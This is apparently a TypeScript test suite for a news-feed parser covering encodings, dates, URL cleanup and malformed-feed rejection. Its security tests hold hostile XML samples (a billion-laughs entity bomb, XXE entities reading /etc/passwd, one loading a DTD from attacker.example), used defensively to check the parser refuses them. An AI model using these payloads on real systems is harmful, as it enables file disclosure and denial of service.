import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { gunzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import { TickerpulseError } from '../../src/lib/errors.js';
import { sharedDir } from '../../src/lib/paths.js';
import type { RawItem } from '../../src/lib/types.js';
import {
  canonicalizeUrl,
  cleanText,
  parseFeedDate,
  parseFeedDocument,
  parseFeedDocumentWithMeta,
  SUMMARY_MAX_CHARS,
  type FeedMeta,
} from '../../workers/feedParser.js';

const FEEDS = join(sharedDir, 'fixtures', 'feeds');
const HAVE_FEEDS = existsSync(FEEDS);
const SKIP = HAVE_FEEDS ? false : `real-world feed fixtures absent (${FEEDS}): skipping`;
const FETCHED_AT = '2026-11-29T10:00:00.000Z';

function meta(over: Partial<FeedMeta> = {}): FeedMeta {
  return { contentType: 'application/rss+xml', url: 'https://feeds.example.com/news/rss.xml', fetchedAt: FETCHED_AT, ...over };
}

const utf8 = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const fixture = (name: string) => new Uint8Array(readFileSync(join(FEEDS, name)));

async function parse(body: Uint8Array | string, m: Partial<FeedMeta> = {}): Promise<RawItem[]> {
  return parseFeedDocument(typeof body === 'string' ? utf8(body) : body, meta(m));
}

async function rejectsWith(p: Promise<unknown>, code: string, msg?: RegExp): Promise<void> {
  await assert.rejects(p, (err: unknown) => {
    assert.ok(err instanceof TickerpulseError, `expected TickerpulseError, got ${String(err)}`);
    assert.equal(err.code, code, err.message);
    if (msg) assert.match(err.message, msg);
    return true;
  });
}

function assertWellFormed(items: RawItem[]): void {
  const guids = new Set<string>();
  for (const it of items) {
    assert.ok(it.title && it.title === it.title.trim() && !/\s{2,}|[<>]\w/.test(it.title), `title not clean: ${JSON.stringify(it.title)}`);
    assert.ok(it.guid, 'guid');
    assert.ok(!guids.has(it.guid), `duplicate guid ${it.guid}`);
    guids.add(it.guid);
    assert.ok(it.publishedAt && /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(it.publishedAt), `publishedAt ${it.publishedAt}`);
    if (it.url) {
      assert.match(it.url, /^https?:\/\/\S+$/);
      assert.ok(!it.url.includes('#') && !/[?&]utm_/i.test(it.url), it.url);
    }
    if (it.summary) assert.ok(it.summary.length <= SUMMARY_MAX_CHARS);
  }
}

describe('real-world feeds (../shared/fixtures/feeds)', { skip: SKIP }, () => {
  const counts: Record<string, number> = {
    'sec_edgar_getcurrent_2018-04.atom.xml': 100,
    'sec_edgar_company_atom_twitter.atom.xml': 40,
    'sec_edgar_xbrl_usgaap_2025-01.rss.xml': 200,
    'yahoo_finance_rssindex_2022-01.rss.xml': 50,
    'cnbc_top_news_2014-03.rss.xml': 30,
    'cnbc_international_top_news_2026-03.rss.xml': 30,
    'cnnmoney_latest_2014-03.rss.xml': 20,
    'thestreet_market_strategy_2013-02.rss.xml': 25,
    'reuters_world_news_2017-01.rss.xml': 10,
    'seekingalpha_aapl_2026-03.rss.xml': 20,
    'google_news_search_site_reuters_markets_2026-03.rss.xml': 100,
    'reddit_multi_stocks_wsb_2021-03.atom.xml': 25,
    'oren_ru_news_windows-1251_ODD.rss.xml': 10,
  };
  for (const [name, n] of Object.entries(counts)) {
    it(`${name}: ${n} items, all normalized`, async () => {
      const items = await parse(fixture(name), { contentType: name.includes('atom') ? 'application/atom+xml' : 'application/rss+xml' });
      assert.equal(items.length, n);
      assertWellFormed(items);
      assert.ok(items.every((i) => !i.dateMissing), 'every fixture item has a parseable date');
    });
  }

  it('windows-1251 (declared in the XML declaration) decodes to Cyrillic', async () => {
    const items = await parse(fixture('oren_ru_news_windows-1251_ODD.rss.xml'), { contentType: 'text/xml' });
    assert.match(items[0].title, /[А-Яа-яЁё]{4,}/);
    assert.ok(!/[ÀÁÂÃÐÑÒÓ]{3,}/.test(items[0].title), 'not mojibake');
    assert.equal(items[0].publishedAt, '2014-01-22T14:31:31.000Z'); // +0600
  });

  it('windows-1251 also decodes when only the Content-Type header names it', async () => {
    const raw = Buffer.from(fixture('oren_ru_news_windows-1251_ODD.rss.xml')).toString('latin1').replace(/ encoding="windows-1251"/, '');
    const items = await parse(new Uint8Array(Buffer.from(raw, 'latin1')), { contentType: 'application/rss+xml; charset=windows-1251' });
    assert.match(items[0].title, /[А-Яа-яЁё]{4,}/);
  });

  it('ISO-8859-1 CNNMoney: 8-bit bytes decode, CRLF-wrapped titles collapse, EDT dates', async () => {
    const body = fixture('cnnmoney_latest_2014-03.rss.xml');
    assert.ok(body.some((b) => b >= 0x80), 'fixture has 8-bit bytes');
    const items = await parse(body, { contentType: 'text/xml' });
    assert.ok(items.every((i) => !i.title.includes('\uFFFD') && !(i.summary ?? '').includes('\uFFFD')));
    assert.equal(items[0].title, 'GM ignition switch issue surfaced in 2001');
    assert.equal(items[0].publishedAt, '2014-03-13T01:56:56.000Z'); // Wed, 12 Mar 2014 21:56:56 EDT
    assert.ok(items.every((i) => !/[\r\n\t]/.test(i.title + (i.summary ?? ''))));
  });

  it('Google News: whitespace around <link> is trimmed', async () => {
    const items = await parse(fixture('google_news_search_site_reuters_markets_2026-03.rss.xml'));
    assert.ok(items.every((i) => i.url && i.url.startsWith('https://news.google.com/')), 'links are absolute and trimmed');
    const years = new Set(items.map((i) => i.publishedAt!.slice(0, 4)));
    assert.deepEqual([...years].sort(), ['2016', '2026'], 'items span 2016–2026');
  });

  it('Yahoo Finance: ISO-8601 pubDates are parsed', async () => {
    const items = await parse(fixture('yahoo_finance_rssindex_2022-01.rss.xml'));
    assert.ok(items.every((i) => i.publishedAt!.startsWith('2022-01')));
    assert.ok(items.some((i) => i.publishedAt === '2022-01-07T14:53:09.000Z'));
    // Two different articles share the junk guid "?src=A00220&yptr=yahoo": both kept, distinct guids.
    assert.equal(new Set(items.map((i) => i.guid)).size, 50);
  });

  it('CNBC 2014: times without seconds parse', async () => {
    const items = await parse(fixture('cnbc_top_news_2014-03.rss.xml'));
    assert.equal(items[0].publishedAt, '2014-03-13T03:58:00.000Z');
    assert.ok(items.every((i) => !/&(amp|#039|quot);/.test(i.title + (i.summary ?? ''))));
  });

  it('SEC EDGAR XBRL: EST zone abbreviation', async () => {
    const items = await parse(fixture('sec_edgar_xbrl_usgaap_2025-01.rss.xml'));
    assert.equal(items[0].publishedAt, '2025-01-24T22:08:44.000Z'); // 17:08:44 EST
  });

  it('SEC EDGAR Atom: escaped-HTML summaries become text, Atom ids are guids', async () => {
    const items = await parse(fixture('sec_edgar_getcurrent_2018-04.atom.xml'), { contentType: 'application/atom+xml', url: 'https://www.sec.gov/cgi-bin/browse-edgar?action=getcurrent' });
    assert.match(items[0].guid, /^urn:tag:sec\.gov/);
    assert.ok(items[0].summary && !/[<>]/.test(items[0].summary), items[0].summary ?? '');
    assert.match(items[0].summary!, /Filed: 2018-04-24/);
  });

  it('TheStreet: escaped HTML and tracking pixels are stripped from summaries', async () => {
    const items = await parse(fixture('thestreet_market_strategy_2013-02.rss.xml'));
    for (const i of items) assert.ok(!/<img|<a |&lt;|&gt;/i.test(i.summary ?? ''), i.summary ?? '');
  });

  it('the INVALID (truncated) Reuters file is FEED_PARSE_FAILED', async () => {
    await rejectsWith(parse(fixture('reuters_most_read_INVALID.rss.xml')), 'FEED_PARSE_FAILED');
  });

  it('the MarketWatch "Document Moved" HTML page is FEED_NOT_A_FEED', async () => {
    await rejectsWith(parse(fixture('marketwatch_pf_document_moved_NOT_A_FEED.rss.html'), { contentType: 'text/html' }), 'FEED_NOT_A_FEED');
  });

  it('the gzipped NSHipster body parses after gunzip (25 items)', async () => {
    const gz = fixture('nshipster_GZIPPED_BODY_ODD.xml.gz');
    const items = await parse(new Uint8Array(gunzipSync(gz)));
    assert.equal(items.length, 25);
    assertWellFormed(items);
    // A body still gzipped (a server that forgot Content-Encoding) is inflated in the worker too.
    assert.equal((await parse(gz)).length, 25);
  });
});

describe('security: DTDs are refused before parsing', () => {
  it('billion-laughs entity bomb → FEED_PARSE_FAILED', async () => {
    const bomb =
      '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
      Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n') +
      '\n]>\n<rss version="2.0"><channel><title>t</title><item><title>&lol9;</title></item></channel></rss>';
    const t0 = Date.now();
    await rejectsWith(parse(bomb), 'FEED_PARSE_FAILED', /entity|DTD/i);
    assert.ok(Date.now() - t0 < 1000);
  });

  it('XXE external entity → FEED_PARSE_FAILED', async () => {
    const xxe =
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n' +
      '<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title><link>http://a.example/1</link></item></channel></rss>';
    await rejectsWith(parse(xxe), 'FEED_PARSE_FAILED', /XXE|ENTITY/);
  });

  it('parameter-entity XXE in an Atom document → FEED_PARSE_FAILED', async () => {
    const doc = '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><feed xmlns="http://www.w3.org/2005/Atom"/>';
    await rejectsWith(parse(doc), 'FEED_PARSE_FAILED');
  });

  it('a bare RSS 0.91 DOCTYPE (no internal subset) is tolerated, HTML entities repaired', async () => {
    const doc =
      '<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n' +
      '<rss version="0.91"><channel><title>Old</title><link>http://old.example/</link>' +
      '<item><title>S&P 500 &ndash; a&nbsp;record</title><link>http://old.example/a</link></item></channel></rss>';
    const items = await parse(doc);
    assert.equal(items.length, 1);
    assert.equal(items[0].title, 'S&P 500 – a record');
  });
});

describe('rejections', () => {
  it('empty body → FEED_EMPTY', async () => {
    await rejectsWith(parse(new Uint8Array(0)), 'FEED_EMPTY');
    await rejectsWith(parse('  \r\n\t '), 'FEED_EMPTY');
  });
  it('HTML5 page → FEED_NOT_A_FEED', async () => {
    await rejectsWith(parse('<!DOCTYPE html>\n<html><head><title>Login</title></head><body>Sign in</body></html>', { contentType: 'text/html' }), 'FEED_NOT_A_FEED');
  });
  it('JSON or plain text → FEED_NOT_A_FEED', async () => {
    await rejectsWith(parse('{"error":"rate limited"}', { contentType: 'application/json' }), 'FEED_NOT_A_FEED');
    await rejectsWith(parse('Service Unavailable'), 'FEED_NOT_A_FEED');
  });
  it('other XML roots → FEED_NOT_A_FEED', async () => {
    await rejectsWith(parse('<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>'), 'FEED_NOT_A_FEED');
  });
  it('mismatched tags → FEED_PARSE_FAILED', async () => {
    await rejectsWith(parse('<rss version="2.0"><channel><item><title>a</item></channel></rss>'), 'FEED_PARSE_FAILED');
  });
});

describe('hand-written documents', () => {
  it('RSS 2.0: normalization of titles, links, summaries, guids and dates', async () => {
    const long = 'word '.repeat(1000);
    const doc = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Test</title>
 <item>
   <title>  Apple &amp;amp; Nvidia &lt;b&gt;rally&lt;/b&gt;
     after earnings\u0001 </title>
   <link> /markets/apple-nvidia?utm_source=rss&amp;id=7&amp;utm_medium=feed#comments </link>
   <description>&lt;p&gt;Shares rose &lt;img src="https://t.example/pixel.gif"/&gt;4%&amp;nbsp;in early trading.&lt;/p&gt;</description>
   <pubDate>Tue, 4 Mar 2014 10:30 EST</pubDate>
 </item>
 <item>
   <title><![CDATA[Exxon <i>cuts</i> guidance]]></title>
   <guid isPermaLink="false">exxon-123</guid>
   <description>${long}</description>
   <pubDate>not a date at all</pubDate>
 </item>
 <item><title>   </title><link>http://x.example/no-title</link></item>
 <item><title>No link, no guid</title><pubDate>2024-05-06T07:08:09+02:00</pubDate></item>
 <item><title>Permalink guid</title><guid>https://news.example.com/p/1?utm_campaign=x</guid></item>
</channel></rss>`;
    const items = await parse(doc, { url: 'https://www.example.com/feeds/main.xml' });
    assert.equal(items.length, 4, 'the item without a title is skipped');
    const [a, b, c, d] = items;
    assert.equal(a.title, 'Apple & Nvidia rally after earnings');
    assert.equal(a.url, 'https://www.example.com/markets/apple-nvidia?id=7');
    assert.equal(a.guid, a.url);
    assert.equal(a.summary, 'Shares rose 4% in early trading.');
    assert.equal(a.publishedAt, '2014-03-04T15:30:00.000Z');
    assert.equal(a.dateMissing, undefined);

    assert.equal(b.title, 'Exxon cuts guidance');
    assert.equal(b.guid, 'exxon-123');
    assert.equal(b.url, null);
    assert.equal(b.publishedAt, FETCHED_AT);
    assert.equal(b.dateMissing, true);
    assert.ok(b.summary!.length <= SUMMARY_MAX_CHARS && b.summary!.endsWith('…'));

    assert.match(c.guid, /^sha1:[0-9a-f]{40}$/);
    assert.equal(c.publishedAt, '2024-05-06T05:08:09.000Z');
    // The hash guid is stable: same document, fetched later, same guid.
    const again = await parse(doc, { url: 'https://www.example.com/feeds/main.xml', fetchedAt: '2030-01-01T00:00:00.000Z' });
    assert.equal(again[2].guid, c.guid);

    assert.equal(d.url, 'https://news.example.com/p/1');
  });

  it('Atom 1.0: alternate link, relative link resolution, published/updated, html title', async () => {
    const doc = `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Filings</title><id>urn:x</id><updated>2025-01-01T00:00:00Z</updated>
  <entry>
    <title type="html">8-K &amp;lt;Current report&amp;gt; &amp;amp; more</title>
    <link rel="alternate" href="/filings/1"/>
    <link rel="enclosure" href="/filings/1.zip"/>
    <id>urn:filing:1</id>
    <updated>2025-01-02T03:04:05-05:00</updated>
    <summary type="html">&lt;b&gt;Filed:&lt;/b&gt; 2025-01-02</summary>
  </entry>
  <entry>
    <title>Second</title>
    <link href="https://sec.example/filings/2#top"/>
    <id>urn:filing:2</id>
    <published>2025-01-03T00:00:00Z</published>
    <updated>2025-02-01T00:00:00Z</updated>
    <content type="html">&lt;p&gt;Body&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>Broken date</title>
    <id>urn:filing:3</id>
    <published>yesterday-ish</published>
  </entry>
</feed>`;
    const items = await parse(doc, { contentType: 'application/atom+xml', url: 'https://sec.example/cgi-bin/feed' });
    assert.equal(items.length, 3, 'an unparseable <published> does not lose the feed');
    assert.equal(items[0].title, '8-K <Current report> & more');
    assert.equal(items[0].url, 'https://sec.example/filings/1');
    assert.equal(items[0].guid, 'urn:filing:1');
    assert.equal(items[0].publishedAt, '2025-01-02T08:04:05.000Z');
    assert.equal(items[0].summary, 'Filed: 2025-01-02');
    assert.equal(items[1].url, 'https://sec.example/filings/2');
    assert.equal(items[1].publishedAt, '2025-01-03T00:00:00.000Z', 'published wins over updated');
    assert.equal(items[1].summary, 'Body');
    assert.equal(items[2].dateMissing, true);
  });

  it('RSS 1.0 / RDF with dc:date', async () => {
    const doc = `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="http://rdf.example/"><title>RDF news</title><link>http://rdf.example/</link><description>d</description></channel>
  <item rdf:about="http://rdf.example/story/1">
    <title>Boeing wins order</title><link>http://rdf.example/story/1</link>
    <description>Big one.</description><dc:date>2013-02-01T12:00:00+01:00</dc:date>
  </item>
  <item rdf:about="http://rdf.example/story/2"><title>Pfizer trial</title><link>http://rdf.example/story/2</link></item>
</rdf:RDF>`;
    const items = await parse(doc, { contentType: 'application/rdf+xml' });
    assert.equal(items.length, 2);
    assert.equal(items[0].guid, 'http://rdf.example/story/1');
    assert.equal(items[0].publishedAt, '2013-02-01T11:00:00.000Z');
    assert.equal(items[0].summary, 'Big one.');
    assert.equal(items[1].dateMissing, true);
  });

  it('UTF-16 with a BOM and windows-1252 from the Content-Type', async () => {
    const doc = '<?xml version="1.0" encoding="UTF-16"?><rss version="2.0"><channel><title>t</title><item><title>Café “quotes” — €5</title></item></channel></rss>';
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(doc, 'utf16le')]);
    assert.equal((await parse(new Uint8Array(le)))[0].title, 'Café “quotes” — €5');
    const cp = iconv.encode(doc.replace('UTF-16', 'windows-1252'), 'windows-1252');
    assert.equal((await parse(new Uint8Array(cp), { contentType: 'text/xml; charset=ISO-8859-1' }))[0].title, 'Café “quotes” — €5');
  });

  it('invalid XML characters are stripped instead of failing the document', async () => {
    const doc = '<rss version="2.0"><channel><title>t</title><item><title>Bad\u0000 \u000bchars\u001f here &#1; too</title></item></channel></rss>';
    assert.equal((await parse(doc))[0].title, 'Bad chars here too');
  });
});

describe('helpers', () => {
  it('parseFeedDate handles RFC 822, ISO 8601 and common malformed variants', () => {
    const cases: [string, string | null][] = [
      ['Fri, 24 Jan 2025 07:00:39 EST', '2025-01-24T12:00:39.000Z'],
      ['Wed, 12 Mar 2014 21:56:56 EDT', '2014-03-13T01:56:56.000Z'],
      ['Thu, 13 Mar 2014 03:23 GMT', '2014-03-13T03:23:00.000Z'],
      ['Sun, 08 Mar 2026 07:23:46 -0400', '2026-03-08T11:23:46.000Z'],
      ['Mon, 3 Feb 2014 9:05:00 PST', '2014-02-03T17:05:00.000Z'],
      ['03 Feb 14 09:05 +0530', '2014-02-03T03:35:00.000Z'],
      ['2022-01-06T18:08:00Z', '2022-01-06T18:08:00.000Z'],
      ['2018-04-24T08:22:51-04:00', '2018-04-24T12:22:51.000Z'],
      ['2024-05-06 07:08', '2024-05-06T07:08:00.000Z'],
      ['2024-05-06', '2024-05-06T00:00:00.000Z'],
      ['March 4, 2014 10:30 AM EST', '2014-03-04T15:30:00.000Z'],
      ['Tuesday, 04-Mar-2014 10:30:00 GMT', '2014-03-04T10:30:00.000Z'],
      ['31 Feb 2014 10:00:00 GMT', null],
      // The canonical form passes through; what Date would roll over still goes the general way.
      ['2024-05-06T07:08:09.123Z', '2024-05-06T07:08:09.123Z'],
      ['2014-02-31T10:00:00.000Z', null],
      ['2014-03-04T24:00:00.000Z', '2014-03-05T00:00:00.000Z'],
      ['1969-12-31T23:59:59.000Z', null],
      ['2201-01-01T00:00:00.000Z', null],
      // Four-digit years are never read as two-digit ones: .NET's default 0001-01-01 is no date.
      ['0001-01-01T00:00:00Z', null],
      ['0001-01-01T00:00:00.000Z', null],
      ['0099-12-31T23:59:59Z', null],
      ['0000-01-01', null],
      ['0050-06-01 10:00', null],
      ['Mon, 01 Jan 0001 00:00:00 GMT', null],
      ['1 January 0069', null],
      ['January 1, 0001', null],
      // Two-digit years still have a century: 00–49 → 20xx, 50–99 → 19xx.
      ['1 Jan 70 00:00 GMT', '1970-01-01T00:00:00.000Z'],
      ['04 Mar 49 10:00 GMT', '2049-03-04T10:00:00.000Z'],
      ['tomorrow', null],
      ['', null],
    ];
    for (const [input, want] of cases) assert.equal(parseFeedDate(input), want, input);
  });

  it('canonicalizeUrl', () => {
    assert.equal(canonicalizeUrl('  https://EX.com/a?utm_source=x&b=1&UTM_Term=2#frag '), 'https://ex.com/a?b=1');
    assert.equal(canonicalizeUrl('../b?x=%20y', 'https://ex.com/a/feed.xml'), 'https://ex.com/b?x=%20y');
    assert.equal(canonicalizeUrl('javascript:alert(1)'), null);
    assert.equal(canonicalizeUrl('not a url'), null);
  });

  it('cleanText decodes double escapes and strips tags', () => {
    assert.equal(cleanText('Top News &amp;amp; Analysis'), 'Top News & Analysis');
    assert.equal(cleanText('<p>One</p><p>Two&nbsp;&#8212;&#x2014; <script>x()</script>three</p>'), 'One Two —— three');
    assert.equal(cleanText('P/E < 10 & rising'), 'P/E < 10 & rising');
    assert.equal(cleanText('Apple Inc &lt;AAPL.O&gt; and <AAPL> rose'), 'Apple Inc <AAPL.O> and <AAPL> rose');
    assert.equal(cleanText('<div type="text/xml"><act>34</act><file-number>001</file-number></div>'), '34 001');
  });

  it('cleanText returns plain text as it is and still cleans what only looks plain', () => {
    assert.equal(cleanText('Apple shares rise 3% after iPhone launch'), 'Apple shares rise 3% after iPhone launch');
    assert.equal(cleanText(''), '');
    const cases: [string, string][] = [
      ['  padded  ', 'padded'],
      ['two  spaces', 'two spaces'],
      ['tab\there', 'tab here'],
      ['line\nbreak', 'line break'],
      ['no\u00a0break space', 'no break space'],
      ['bell\u0007 gone', 'bell gone'],
      ['lone \ud800 surrogate', 'lone surrogate'],
      ['emoji \ud83d\ude80 kept', 'emoji \ud83d\ude80 kept'],
      ['not a char \uffff', 'not a char'],
    ];
    for (const [input, want] of cases) assert.equal(cleanText(input), want, JSON.stringify(input));
  });
});

// ---------------------------------------------------------------------------------------------
// Charsets decoded exactly, hostile DTDs refused without touching the file system, channel ttl
// ---------------------------------------------------------------------------------------------

function encodedDoc(title: string, charset: string, declared: string | null): Buffer {
  const decl = declared ? `<?xml version="1.0" encoding="${declared}"?>\n` : '<?xml version="1.0"?>\n';
  const doc = `${decl}<rss version="2.0"><channel><title>c</title><item><title>${title}</title><link>http://x.example/1</link></item></channel></rss>`;
  return iconv.encode(doc, charset);
}

describe('charsets decode to exactly the expected titles (no U+FFFD)', () => {
  const cases: { name: string; title: string; body: Buffer; contentType: string }[] = [
    { name: 'windows-1251 from the header', title: 'Газпром нефть увеличила добычу на 5%', body: encodedDoc('Газпром нефть увеличила добычу на 5%', 'windows-1251', null), contentType: 'application/rss+xml; charset=windows-1251' },
    { name: 'windows-1251 from the declaration', title: 'Сбербанк: прибыль выросла «на треть»', body: encodedDoc('Сбербанк: прибыль выросла «на треть»', 'windows-1251', 'windows-1251'), contentType: 'text/xml' },
    { name: 'ISO-8859-1 from the header', title: 'Société Générale: résultats à Zürich ±2 %', body: encodedDoc('Société Générale: résultats à Zürich ±2 %', 'latin1', null), contentType: 'text/xml; charset=ISO-8859-1' },
    { name: 'ISO-8859-1 from the declaration', title: 'Nestlé übertrifft Erwartungen; Ålesund ½ år', body: encodedDoc('Nestlé übertrifft Erwartungen; Ålesund ½ år', 'latin1', 'ISO-8859-1'), contentType: 'application/xml' },
    {
      name: 'UTF-16 LE with a BOM',
      title: 'Toyota 純利益 — “record” €5bn',
      body: Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(encodedDoc('Toyota 純利益 — “record” €5bn', 'utf8', 'UTF-16').toString('utf8'), 'utf16le')]),
      contentType: 'application/rss+xml',
    },
    {
      name: 'UTF-16 BE with a BOM',
      title: 'Samsung 영업이익 급증 — 𝟓 trillion',
      body: Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(encodedDoc('Samsung 영업이익 급증 — 𝟓 trillion', 'utf8', 'UTF-16').toString('utf8'), 'utf16be')]),
      contentType: 'text/xml; charset=utf-8', // a wrong header loses to the BOM
    },
    {
      name: 'UTF-16 BE without a BOM, sniffed from "<?"',
      title: 'Ørsted cuts outlook',
      body: iconv.encode(encodedDoc('Ørsted cuts outlook', 'utf8', 'UTF-16BE').toString('utf8'), 'utf16be'),
      contentType: 'text/xml',
    },
    { name: 'Shift_JIS from the header', title: 'トヨタ自動車、純利益が過去最高に', body: encodedDoc('トヨタ自動車、純利益が過去最高に', 'Shift_JIS', null), contentType: 'application/rss+xml; charset=Shift_JIS' },
    { name: 'Shift_JIS from the declaration', title: 'ソニー、半導体事業を分社化へ', body: encodedDoc('ソニー、半導体事業を分社化へ', 'Shift_JIS', 'Shift_JIS'), contentType: 'text/xml' },
    { name: 'KOI8-R from the declaration', title: 'Роснефть повысила дивиденды', body: encodedDoc('Роснефть повысила дивиденды', 'koi8-r', 'KOI8-R'), contentType: 'text/xml' },
  ];
  for (const c of cases) {
    it(c.name, async () => {
      const items = await parse(new Uint8Array(c.body), { contentType: c.contentType });
      assert.equal(items.length, 1);
      assert.equal(items[0].title, c.title);
      assert.ok(!items[0].title.includes('\uFFFD'));
    });
  }
});

describe('security: hostile DTDs are refused quickly and read no file', () => {
  /** Record file-system access by path through the fs module object (what CommonJS parsers use). */
  function spyFs(): { paths: string[]; restore(): void } {
    const fsCjs = createRequire(import.meta.url)('node:fs') as Record<string, unknown> & { promises: Record<string, unknown> };
    const paths: string[] = [];
    const undo: (() => void)[] = [];
    const wrap = (obj: Record<string, unknown>, name: string) => {
      const orig = obj[name];
      if (typeof orig !== 'function') return;
      obj[name] = function (this: unknown, p: unknown, ...rest: unknown[]) {
        paths.push(String(p));
        return (orig as (...a: unknown[]) => unknown).call(this, p, ...rest);
      };
      undo.push(() => (obj[name] = orig));
    };
    for (const n of ['readFileSync', 'readFile', 'openSync', 'open', 'createReadStream', 'statSync', 'existsSync', 'accessSync']) wrap(fsCjs, n);
    for (const n of ['readFile', 'open']) wrap(fsCjs.promises, n);
    return { paths, restore: () => undo.forEach((u) => u()) };
  }

  it('billion laughs: rejected in well under a second, nothing expanded, no file touched', async () => {
    const bomb =
      '<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY lol "lol">\n' +
      Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n') +
      '\n]>\n<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>';
    const spy = spyFs();
    const heap0 = process.memoryUsage().heapUsed;
    const t0 = Date.now();
    try {
      await rejectsWith(parse(bomb), 'FEED_PARSE_FAILED', /entity|DTD/i);
    } finally {
      spy.restore();
    }
    assert.ok(Date.now() - t0 < 500, `took ${Date.now() - t0} ms`);
    assert.ok(process.memoryUsage().heapUsed - heap0 < 50 * 1024 * 1024, 'no expansion');
    assert.deepEqual(spy.paths, []);
  });

  it('XXE pointing at /etc/passwd (and at a canary file): rejected quickly, no file read', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tp-xxe-'));
    const canary = join(dir, 'canary.txt');
    writeFileSync(canary, 'CANARY-7f3a9c');
    const docs = [
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title></item></channel></rss>',
      `<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY xxe SYSTEM "file://${canary}">]><feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&xxe;</title><id>1</id></entry></feed>`,
      `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "file://${canary}"> %p;]><rss version="2.0"><channel><title>x</title></channel></rss>`,
    ];
    const spy = spyFs();
    try {
      for (const doc of docs) {
        const t0 = Date.now();
        await rejectsWith(parse(doc), 'FEED_PARSE_FAILED', /ENTITY|DTD/);
        assert.ok(Date.now() - t0 < 500);
      }
    } finally {
      spy.restore();
    }
    assert.deepEqual(spy.paths.filter((p) => p.includes('passwd') || p.includes('canary')), []);
    assert.deepEqual(spy.paths, []);
  });

  it('a bare DOCTYPE naming an external DTD is dropped, never loaded', async () => {
    const doc = '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "file:///etc/passwd">\n<rss version="2.0"><channel><title>x</title><item><title>Plain</title></item></channel></rss>';
    const spy = spyFs();
    let items: RawItem[];
    try {
      items = await parse(doc);
    } finally {
      spy.restore();
    }
    assert.deepEqual(items.map((i) => i.title), ['Plain']);
    assert.deepEqual(spy.paths, []);
  });
});

describe('parseFeedDocumentWithMeta', () => {
  it('reports the RSS channel <ttl> in minutes; null when absent, invalid or Atom', async () => {
    const rss = (ttl: string) => utf8(`<rss version="2.0"><channel><title>t</title>${ttl}<item><title>A</title></item></channel></rss>`);
    assert.equal((await parseFeedDocumentWithMeta(rss('<ttl>30</ttl>'), meta())).ttlMinutes, 30);
    assert.equal((await parseFeedDocumentWithMeta(rss(' <ttl> 60 </ttl>'), meta())).ttlMinutes, 60);
    assert.equal((await parseFeedDocumentWithMeta(rss(''), meta())).ttlMinutes, null);
    assert.equal((await parseFeedDocumentWithMeta(rss('<ttl>soon</ttl>'), meta())).ttlMinutes, null);
    assert.equal((await parseFeedDocumentWithMeta(rss('<ttl>0</ttl>'), meta())).ttlMinutes, null);
    const atom = utf8('<feed xmlns="http://www.w3.org/2005/Atom"><title>f</title><entry><title>E</title><id>1</id></entry></feed>');
    const r = await parseFeedDocumentWithMeta(atom, meta({ contentType: 'application/atom+xml' }));
    assert.equal(r.ttlMinutes, null);
    assert.equal(r.items[0].title, 'E');
  });
});
